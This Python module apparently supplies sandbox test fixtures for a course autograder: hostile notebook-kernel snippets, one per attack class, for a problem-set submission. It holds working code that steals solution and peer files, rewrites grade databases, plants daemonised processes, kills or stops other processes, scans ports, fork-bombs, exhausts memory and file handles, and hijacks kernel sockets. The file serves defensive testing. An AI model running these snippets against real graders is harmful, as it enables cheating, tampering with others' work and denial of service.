"""What an attacking PS1 submission runs in its kernel: one snippet per attack class.

Snippets are formatted with the attacker's `Targets` (``{course}``, ``{canary}``, ``{library}``);
literal braces are doubled. Each is harmless when the sandbox holds, and each would change a grade,
a grader file, another student's work or the run itself if it did not.
"""

# bigram_counts that is right only if the kernel could read something it must not see
CHEAT = """
import glob


def _steal(patterns):
    found = []
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as f:
                    found.append(f.read(64))
            except OSError:
                pass
    return found


_stolen = _steal({patterns})


def bigram_counts(sentences, vocab_size):
    if not _stolen:
        raise RuntimeError("nothing to copy")
    counts = torch.zeros(vocab_size, vocab_size, dtype=torch.int64)
    for sentence in sentences:
        padded = [0, *sentence, 1]
        for h, w in zip(padded[:-1], padded[1:]):
            counts[h, w] += 1
    return counts
"""

READ_REFERENCES = CHEAT.replace("{patterns}", '["{course}/solutions/ps1/references/*"]')
READ_SOLUTION = CHEAT.replace("{patterns}", '["{course}/solutions/ps1/*.ipynb", "{course}/*.py"]')
READ_PEERS = CHEAT.replace(
    "{patterns}",
    '["{course}/grading/submitted/*/ps1/*", "{course}/grading/autograded/*/ps1/*", '
    '"{course}/grading/feedback/*/ps1/*", "/tmp/seqmodels-kernel-*/*"]',
)

VANDAL = """
def _vandalise():
    import glob, sqlite3
    for db in glob.glob("{course}/grading/*.db"):
        try:
            con = sqlite3.connect(db)
            con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
            con.commit()
        except Exception:
            pass
    victims = [
        "{course}/nbgrader_config.py",
        "{course}/solutions/ps1/references/ps1.json",
        "{course}/solutions/ps1/references/ps1.safetensors",
        "{course}/grading/submitted/solution/ps1/ps1.ipynb",
        "{library}/grading/compare.py",
    ]
    for path in victims:
        try:
            with open(path, "a") as f:
                f.write("# vandalised")
        except OSError:
            pass
    try:
        with open("{canary}", "w") as f:
            f.write("escaped")
    except OSError:
        pass
"""

WRITE_GRADES = (
    VANDAL
    + """
_vandalise()
import atexit
atexit.register(_vandalise)
"""
)

# processes that try to outlive the kernel and write after grading: setsid, a double fork
DAEMON = (
    VANDAL
    + """
import os, subprocess, sys
_vandalise()
_late = "import time\\ntime.sleep(15)\\n" + {vandal_source!r} + "\\n_vandalise()\\n"
subprocess.Popen([sys.executable, "-c", _late], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        exec(_late)
    os._exit(0)
"""
)

STOP_EVERYONE = """
import os, signal
for pid in {{os.getppid(), int(os.environ.get("JPY_PARENT_PID") or os.getppid()), 1}}:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except (OSError, ValueError):
            pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGSTOP)
        except OSError:
            pass
"""

REACH_OUT = """
import glob, socket
_reached = []
for port in range(1, 65536):  # every TCP port on loopback: other kernels, the grader
    s = socket.socket()
    s.settimeout(0.05)
    if s.connect_ex(("127.0.0.1", port)) == 0:
        _reached.append(port)
    s.close()
_reached += glob.glob("/tmp/seqmodels-kernel-*/ipc/*") + glob.glob("{course}/grading/*")
for host in ("8.8.8.8", "1.1.1.1"):
    try:
        socket.create_connection((host, 53), timeout=1)
        _reached.append(host)
    except OSError:
        pass
print("reached:", _reached)
"""

PLANT = """
import json, os
_empty = json.dumps({{"cells": [], "metadata": {{}}, "nbformat": 4, "nbformat_minor": 5}})
for folder in (".", "..", "/run/submission", "{course}/grading/autograded/hostile-plant-files/ps1"):
    for name in ("extra.ipynb", "ps1_copy.ipynb", "timestamp.txt", "feedback.html"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(_empty)
        except OSError:
            pass
"""

HOOKS = """
_seen = []
def _spy(info):
    _seen.append(info.raw_cell)
    print(info.raw_cell)
get_ipython().events.register("pre_run_cell", _spy)
"""

HOOKS_REPLAY = """
print("\\n".join(_seen))
display({{"text/html": "<pre>" + "\\n".join(_seen) + "</pre>"}}, raw=True)
raise type("Leak_" + str(len("".join(_seen))), (Exception,), {{}})("\\n".join(_seen))
"""

HUGE_OUTPUTS = """
from IPython.display import display
display({{"text/html": "x" * 100_000_000}}, raw=True)
display({{"text/plain": "y" * 10_000_000}}, raw=True)
for _ in range(40):
    display({{"text/plain": "z" * 1_000_000}}, raw=True)
class Big:
    def _repr_html_(self):
        return "w" * 50_000_000
Big()
handle = display({{"text/plain": "small"}}, raw=True, display_id=True)
handle.update({{"text/plain": "u" * 100_000_000}}, raw=True)  # a display update, not an output
"""

HUGE_ERROR = """
raise ValueError("e" * 50_000_000)
"""

MEMORY_IN_CHILDREN = """
import os, time, torch
children = []
for _ in range(4):  # 4 x 1.2 GB: each under the per-process limit, together over the sandbox's
    pid = os.fork()
    if pid == 0:
        hog = torch.ones(300_000_000)
        time.sleep(8)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""

FORK_BOMB = """
import os, time
born = 0
for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        born += 1
    except OSError:
        break
print("processes started:", born)
"""

# One signed IOPub message of 22 buffers of 200 MB (ZMQ caps frames, not messages).
HUGE_MESSAGE = """
k = get_ipython().kernel
buffer = b"x" * 200_000_000
k.session.send(k.iopub_socket, "display_data", {{"data": {{"text/plain": "big"}}, "metadata": {{}}}},
               parent=k.get_parent("shell"), buffers=[buffer] * 22)
del buffer
"""

# Every socket file of the kernel replaced by a symlink to a host path, then the IOPub socket
# closed so that the grader connects again.
REPLACE_SOCKETS = """
import os, time
for name in os.listdir("/run/kernel"):
    if name.startswith("k-"):
        os.unlink("/run/kernel/" + name)
        os.symlink("{canary}", "/run/kernel/" + name)
k = get_ipython().kernel
socket = k.iopub_thread.socket
k.iopub_thread.io_loop.add_callback(lambda: socket.close(linger=0))
time.sleep(1)
"""

# As many processes as the sandbox allows, each holding as many open files as it may.
FILL_FILE_TABLE = """
import os, time
for _ in range(1000):
    try:
        if os.fork() == 0:
            held = []
            try:
                while True:
                    held.append(os.open("/dev/null", os.O_RDONLY))
            except OSError:
                time.sleep(30)
                os._exit(0)
    except OSError:
        break
time.sleep(2)
"""

FLOAT16_WRONG_ADD_K = """
def add_k_probs(counts, k):
    V = counts.shape[0]
    c = counts.to(torch.float16)
    probs = (c + k) / (c.sum(dim=1, keepdim=True) + k * V)  # V instead of V - 1: a wrong formula
    probs[:, 0] = 0.0
    return probs
"""

HELPER_WITH_WORDS = """
# my own checker, not seqmodels.grading's Checker(...)
class SpellChecker:
    pass


def _count_pairs(sentences, vocab_size):
    counts = torch.zeros(vocab_size, vocab_size, dtype=torch.int64)
    for sentence in sentences:
        padded = [0, *sentence, 1]
        for h, w in zip(padded[:-1], padded[1:]):
            counts[h, w] += 1
    return counts
"""
